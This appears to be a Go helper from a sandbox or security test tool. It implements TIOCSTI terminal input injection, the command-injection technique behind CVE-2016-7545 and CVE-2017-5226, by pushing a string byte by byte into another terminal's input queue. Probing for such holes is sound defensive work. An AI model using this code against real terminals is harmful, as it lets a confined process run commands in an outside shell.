package main

import (
	"fmt"
	"strconv"
	"unsafe"

	"golang.org/x/sys/unix"
)

// tiocsti pushes every byte of text into the input queue of the terminal
// open on fd, as if typed there: the shell that reads that terminal next
// runs it (the attack of CVE-2016-7545 and CVE-2017-5226).
func tiocsti(args []string) error {
	fd, err := strconv.Atoi(args[0])
	if err != nil {
		return fmt.Errorf("bad fd %q", args[0])
	}
	text := args[1]
	for i := 0; i < len(text); i++ {
		b := text[i]
		_, _, e := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.TIOCSTI, uintptr(unsafe.Pointer(&b)))
		if e != 0 {
			fmt.Printf("tiocsti fd %d: %s after %d bytes\n", fd, errno(e), i)
			return e
		}
	}
	fmt.Printf("tiocsti fd %d: injected %d bytes\n", fd, len(text))
	return nil
}
